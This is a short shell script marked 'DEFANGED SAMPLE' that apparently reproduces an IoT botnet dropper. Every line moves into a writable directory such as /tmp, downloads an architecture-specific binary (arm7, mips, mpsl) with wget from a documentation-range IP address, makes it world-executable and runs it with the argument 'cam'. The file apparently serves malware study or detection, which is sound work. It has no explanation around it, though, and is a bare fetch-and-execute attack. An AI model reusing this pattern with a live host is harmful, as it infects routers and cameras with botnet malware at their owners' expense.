#!/bin/sh
# DEFANGED SAMPLE
cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.66/x.arm7; chmod 777 x.arm7; ./x.arm7 cam
cd /tmp || cd /var/run; wget http://198.51.100.66/x.mips; chmod 777 x.mips; ./x.mips cam
cd /tmp || cd /var/run; wget http://198.51.100.66/x.mpsl; chmod 777 x.mpsl; ./x.mpsl cam
